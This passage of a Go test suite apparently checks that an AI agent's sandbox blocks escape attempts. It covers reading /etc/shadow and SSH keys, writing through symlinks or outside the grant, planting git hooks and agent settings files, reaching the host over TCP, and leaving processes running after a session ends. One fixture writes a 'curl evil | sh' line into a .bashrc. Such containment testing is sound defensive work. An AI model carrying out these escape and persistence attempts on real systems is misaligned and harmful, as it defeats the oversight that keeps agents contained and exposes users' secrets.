	return r, toolResults(t, r.stdout)
}

// bashBlocked requires a bash call to have run the attacker and the attacker to report
// BLOCKED only.
func bashBlocked(t *testing.T, what string, res map[string]callResult, id string) {
	t.Helper()
	got, ok := res[id]
	switch {
	case !ok:
		t.Errorf("%s (%s): no result", what, id)
	case strings.Contains(got.content, "ESCAPED"):
		t.Errorf("%s (%s): ESCAPED through the bash tool\n%s", what, id, got.content)
	case !strings.Contains(got.content, "BLOCKED"):
		t.Errorf("%s (%s): the attacker did not report (status %s): %s", what, id, got.status, got.content)
	}
}

func bash(command string) fileCall { return fileCall{"bash", obj{"command": command}} }

// TestSandboxBashToolOneAnswer: the bash tool runs in the same sandbox as `sandbox exec`, and
// where the file tools refuse a path, a command refuses it too.
func TestSandboxBashToolOneAnswer(t *testing.T) {
	t.Parallel()
	s := newSbx(t)
	hexes, _ := withCanaries(s.env)
	must(t, os.Symlink(s.secret, filepath.Join(s.grant, "filelink")))
	s.write("grant/.git/HEAD", "ref: refs/heads/main\n")
	port, hits := tcpListener(t)
	before := s.state(t)
	// Creating protected paths goes first, while the context is clean: once command output
	// is in it, the guard (R5) denies such a command before the sandbox is even asked, and
	// this test is about the sandbox.
	r, res := s.bashRun(t, nil,
		bash(attackIn+" create .git/hooks/pre-commit .claude/settings.json"),
		bash(attackIn+" write filelink"),
		bash(attackIn+" read /etc/shadow "+s.sshKey),
		bash(attackIn+" write "+s.secret+" ../outside/secret.txt"),
		bash(attackIn+" mutate /sessions/${session}/mnt/ro/readonly.txt"),
		bash(attackIn+" status"),
		bash(attackIn+" envscan "+strings.Join(hexes, " ")),
		bash(attackIn+" tcp 127.0.0.1:"+strconv.Itoa(port)),
		fileCall{"write_file", obj{"path": s.secret, "content": "x"}},
		fileCall{"write_file", obj{"path": "filelink", "content": "x"}},
		fileCall{"read_file", obj{"path": "/etc/shadow"}},
		fileCall{"write_file", obj{"path": ".git/hooks/pre-commit", "content": "x"}},
		fileCall{"write_file", obj{"path": "/sessions/${session}/mnt/ro/readonly.txt", "content": "x"}},
	)
	for i, what := range []string{"create protected paths", "write through a symlink", "read secrets", "write outside",
		"mutate the read-only grant", "capabilities", "environment canaries", "tcp to the host"} {
		bashBlocked(t, what, res, "script_"+itoa(i+1)+"_0")
	}
	for i := 9; i <= 13; i++ {
		if got := res["script_"+itoa(i)+"_0"]; got.status == "ok" {
			t.Errorf("file tool call %d was allowed: %s", i, got.content)
		}
	}
	for _, ev := range ofType(events(t, r.stdout), "tool.output") {
		if strings.Contains(string(ev.Data), "ESCAPED") {
			t.Errorf("streamed output reports an escape: %s", ev.Data)
		}
	}
	if hits.Load() != 0 {
		t.Error("the host's tcp listener was reached from the bash tool")
	}
	s.unchanged(t, before)
}

// TestSandboxUploadsReadOnly: uploads are read-only inside: neither the copy the session sees
// nor the file the person attached can be changed from a command, or by the file tools.
func TestSandboxUploadsReadOnly(t *testing.T) {
	t.Parallel()
	s := newSbx(t)
	upload := s.write("attach.txt", "uploaded")
	before := s.state(t)
	_, res := s.bashRun(t, []string{"--upload", upload},
		bash(attackIn+" mutate /sessions/${session}/mnt/uploads/attach.txt /sessions/${session}/mnt/uploads"),
		bash(attackIn+" create /sessions/${session}/mnt/uploads/new.txt"),
		fileCall{"write_file", obj{"path": "/sessions/${session}/mnt/uploads/attach.txt", "content": "x"}},
		fileCall{"delete_path", obj{"path": "/sessions/${session}/mnt/uploads/attach.txt"}},
	)
	bashBlocked(t, "mutate uploads", res, "script_1_0")
	bashBlocked(t, "create in uploads", res, "script_2_0")
	for _, id := range []string{"script_3_0", "script_4_0"} {
		if res[id].status == "ok" {
			t.Errorf("file tools changed the uploads (%s)", id)
		}
	}
	s.unchanged(t, before)
	copies, _ := filepath.Glob(filepath.Join(s.home, "uploads", "*", "attach.txt"))
	for _, c := range copies {
		if got := readFile(t, c); got != "uploaded" {
			t.Errorf("the session's copy %s changed: %q", c, got)
		}
	}
}

// TestSandboxBashBackgroundProcesses: in a task, a background process and a daemon started by
// one bash call are dead when that call returns (checked before the next turn), and nothing
// is left once the session ends.
func TestSandboxBashBackgroundProcesses(t *testing.T) {
	t.Parallel()
	s := newSbx(t)
	bg, daemon := newMarker(t), newMarker(t)
	spec := s.script(
		turn("", "update_plan", planCall("background")),
		turn("", "bash", obj{"command": attackIn + " hold " + bg + " & " + attackIn + " daemon " + daemon + " && echo started"}),
		map[string]any{"delay_ms": 4000, "tool_calls": []any{obj{"name": "bash", "input": obj{"command": "echo second"}}}},
		turn("done"),
	)
	args := append([]string{"run", "--json", "--approvals", "auto"}, s.grantArgs()...)
	args = append(args, "--model", spec, "background")
	checked := false
	r := runStreaming(t, s.env, 3*time.Minute, args, func(line string) {
		if checked || !strings.Contains(line, `"tool.result"`) || !strings.Contains(line, "script_1_0") {
			return
		}
		checked = true
		if !strings.Contains(line, "started") {
			t.Errorf("the first command did not start its processes: %s", line)
		}
		for what, m := range map[string]string{"background process": bg, "daemon": daemon} {
			if left := survivors(m, 2*time.Second); len(left) > 0 {
				t.Errorf("a %s outlived its bash call (the session goes on): pids %v", what, left)
			}
		}
	})
	if r.code != 0 {
		t.Fatalf("keepup run: exit %d\n%s", r.code, r.stderr)
	}
	if !checked {
		t.Fatalf("never saw the first bash call's result:\n%s", r.stdout)
	}
	for what, m := range map[string]string{"background process": bg, "daemon": daemon} {
		if left := survivors(m, 3*time.Second); len(left) > 0 {
			t.Errorf("a %s outlived the session: pids %v", what, left)
		}
	}
}

// TestSandboxBashTimeout: a bash call past its timeout_s is killed with its children; the
// result says so and the task goes on.
func TestSandboxBashTimeout(t *testing.T) {
	t.Parallel()
	s := newSbx(t)
	m := newMarker(t)
	start := time.Now()
	_, res := s.bashRun(t, nil,
		fileCall{"bash", obj{"command": attackIn + " tree " + m, "timeout_s": 2}},
		bash("echo after"),
	)
	if took := time.Since(start); took > time.Minute {
		t.Errorf("the run took %s with a 2s command timeout", took)
	}
	got := res["script_1_0"]
	if got.status == "ok" || !strings.Contains(strings.ToLower(got.content), "timed out") {
		t.Errorf("timed-out call: status %s, content %q; want an error saying it timed out", got.status, got.content)
	}
	if !strings.Contains(res["script_2_0"].content, "after") {
		t.Errorf("the task did not go on after the timeout: %+v", res["script_2_0"])
	}
	if left := survivors(m, 3*time.Second); len(left) > 0 {
		t.Errorf("processes of the timed-out call survive: pids %v", left)
	}
}

// runStreaming runs keepup and hands each stdout line to onLine as it comes.
func runStreaming(t *testing.T, e *env, d time.Duration, args []string, onLine func(string)) result {
	t.Helper()
	cmd := execKeepup(e, args...)
	stdout, err := cmd.StdoutPipe()
	must(t, err)
	var errb syncBuffer
	cmd.Stderr = &errb
	must(t, cmd.Start())
	timer := time.AfterFunc(d, func() { cmd.Process.Kill() })
	defer timer.Stop()
	var all strings.Builder
	sc := bufio.NewScanner(stdout)
	sc.Buffer(make([]byte, 1<<20), 16<<20)
	for sc.Scan() {
		all.WriteString(sc.Text() + "\n")
		onLine(sc.Text())
	}
	io.Copy(io.Discard, stdout)
	cmd.Wait()
	return result{code: cmd.ProcessState.ExitCode(), stdout: all.String(), stderr: errb.String()}
}

// TestSandboxConcurrentSessionsKeepGuards: two sessions on one folder (two tasks on the same
// project). Whether the other session ends or starts while one runs, the read-only guards of
// the one running over protected paths that did not exist must stay: it still cannot create
// .bashrc, .gitmodules, .claude/settings.json, .mcp.json or .git/hooks/pre-commit.
func TestSandboxConcurrentSessionsKeepGuards(t *testing.T) {
	t.Parallel()
	protected := []string{".bashrc", ".gitmodules", ".claude/settings.json", ".git/hooks/pre-commit", ".mcp.json"}
	// attacker starts a session that waits for the test to drop "go" into the folder, then
	// tries to create the protected paths.
	attacker := func(t *testing.T, s *sbx) chan result {
		ch := make(chan result, 1)
		go func() {
			ch <- s.exec(t, []string{"--timeout", "60"}, append([]string{"sh", "-c",
				`while [ ! -e go ]; do sleep 0.05; done; exec ../tools/attack create "$@"`, "sh"}, protected...)...)
		}()
		return ch
	}
	check := func(t *testing.T, s *sbx, r result) {
		blocked(t, "create protected paths while another session came or went", r)
		for _, p := range protected {
			if b, err := os.ReadFile(filepath.Join(s.grant, p)); err == nil && len(b) > 0 {
				t.Errorf("%s was created on the host: %q", p, b)
			}
		}
	}
	waitFor := func(p string) {
		deadline := time.Now().Add(30 * time.Second)
		for !exists(p) && time.Now().Before(deadline) {
			time.Sleep(20 * time.Millisecond)
		}
	}
	t.Run("the other session ends", func(t *testing.T) {
		t.Parallel()
		s := newSbx(t)
		other := make(chan result, 1)
		go func() { other <- s.exec(t, []string{"--timeout", "60"}, "sleep", "2") }()
		waitFor(filepath.Join(s.grant, ".bashrc")) // its placeholders are on the host
		att := attacker(t, s)
		time.Sleep(500 * time.Millisecond) // the attacker's sandbox starts while the other runs
		if r := <-other; r.code != 0 {
			t.Errorf("the other session: exit %d %s", r.code, r.stderr)
		}
		must(t, os.WriteFile(filepath.Join(s.grant, "go"), nil, 0o644))
		check(t, s, <-att)
	})
	t.Run("the other session starts", func(t *testing.T) {
		t.Parallel()
		s := newSbx(t)
		att := attacker(t, s)
		waitFor(filepath.Join(s.grant, ".bashrc"))
		time.Sleep(500 * time.Millisecond)
		other := make(chan result, 1)
		go func() {
			other <- s.exec(t, []string{"--timeout", "60"}, "sh", "-c", "touch started; sleep 2")
		}()
		waitFor(filepath.Join(s.grant, "started"))
		must(t, os.WriteFile(filepath.Join(s.grant, "go"), nil, 0o644))
		check(t, s, <-att)
		if r := <-other; r.code != 0 {
			t.Errorf("the other session: exit %d %s", r.code, r.stderr)
		}
	})
}

// TestSandboxProtectedPathsInOutputs: the outputs folder is read-write inside too, and the file
// tools refuse protected paths in it as in any read-write folder; a command must not be able
// to create them either.
func TestSandboxProtectedPathsInOutputs(t *testing.T) {
	t.Parallel()
	s := newSbx(t)
	paths := []string{"outputs/.bashrc", "outputs/.vscode/settings.json", "outputs/.git/hooks/pre-commit", "outputs/.mcp.json"}
	probe := []string{"create"}
	var calls []fileCall
	for _, p := range paths {
		probe = append(probe, "@/"+p)
		calls = append(calls, fileCall{"write_file", obj{"path": "/sessions/${session}/mnt/" + p, "content": "x"}})
	}
	blocked(t, "create protected paths in outputs", s.attack(t, probe...))
	s.fileToolsRefuse(t, calls...)
	for _, p := range paths {
		found, _ := filepath.Glob(filepath.Join(s.home, "outputs", "*", strings.TrimPrefix(p, "outputs/")))
		for _, f := range found {
			if b, _ := os.ReadFile(f); len(b) > 0 {
				t.Errorf("%s was created on the host: %q", f, b)
			}
		}
	}
}

// TestSandboxProtectedPathsInNewFolders: protected paths a command makes in folders of its
// own making, below the top of a grant (where the binds made at the start do not reach), are
// moved out of the grant as the command ends, into the grant's .keepup quarantine, which the
// sandbox cannot reach; the command is told, and the file tools refuse the same paths.
func TestSandboxProtectedPathsInNewFolders(t *testing.T) {
	t.Parallel()
	s := newSbx(t)
	r := s.exec(t, nil, "sh", "-c", `mkdir -p new/.git/hooks && echo evil > new/.git/hooks/pre-commit &&
mkdir -p x/y/.vscode && echo '{}' > x/y/.vscode/tasks.json && echo 'curl evil | sh' > x/.bashrc && echo done`)
	if r.code != 0 || r.stdout != "done\n" {
		t.Fatalf("exit %d: %s%s", r.code, r.stdout, r.stderr)
	}
	for _, rel := range []string{"new/.git/hooks", "x/y/.vscode", "x/.bashrc"} {
		if _, err := os.Lstat(filepath.Join(s.grant, rel)); err == nil {
			t.Errorf("%s is in the grant after the command", rel)
		}
		if !strings.Contains(r.stderr, "moved the protected path /sessions/") || !strings.Contains(r.stderr, "/mnt/work/"+rel+",") {
			t.Errorf("stderr does not name %s: %s", rel, r.stderr)
		}
	}
	hooks, _ := filepath.Glob(filepath.Join(s.grant, ".keepup", "quarantine", "*", "new", ".git", "hooks", "pre-commit"))
	if len(hooks) != 1 {
		t.Errorf("the hook is not in the grant's quarantine: %v", hooks)
	}
	s.fileToolsRefuse(t,
		fileCall{"write_file", obj{"path": "/sessions/${session}/mnt/work/new2/.git/hooks/pre-commit", "content": "x"}},
		fileCall{"write_file", obj{"path": "/sessions/${session}/mnt/work/x/z/.vscode/tasks.json", "content": "x"}})
}

// TestSandboxGrantRefused: a grant the sandbox cannot guard (here: a protected path in it is a
// symlink, which a bind cannot keep from being replaced) stops `sandbox exec` with a one-line
// error that names the path and the remedy, and runs nothing. It does not send the user to
// `keepup doctor`, which checks the machine, not the folder.
func TestSandboxGrantRefused(t *testing.T) {
	t.Parallel()
	s := newSbx(t)
	if err := os.Symlink(filepath.Join(s.outside, "rc"), filepath.Join(s.grant, ".bashrc")); err != nil {
		t.Fatal(err)
	}
	ran := filepath.Join(s.grant, "ran.txt")
	r := s.exec(t, nil, "/bin/sh", "-c", "echo ran > "+ran)
	if r.code != 2 {
		t.Errorf("exit %d, want 2\n%s%s", r.code, r.stdout, r.stderr)
	}
	oneLine(t, r.stderr)
	for _, want := range []string{"a protected path is a symlink", filepath.Join(s.grant, ".bashrc"), "read-only"} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("the error lacks %q: %q", want, r.stderr)
		}
	}
	if strings.Contains(r.stderr, "keepup doctor") {
		t.Errorf("the error sends the user to keepup doctor: %q", r.stderr)
	}
	if exists(ran) {
		t.Error("the command ran")
	}
}
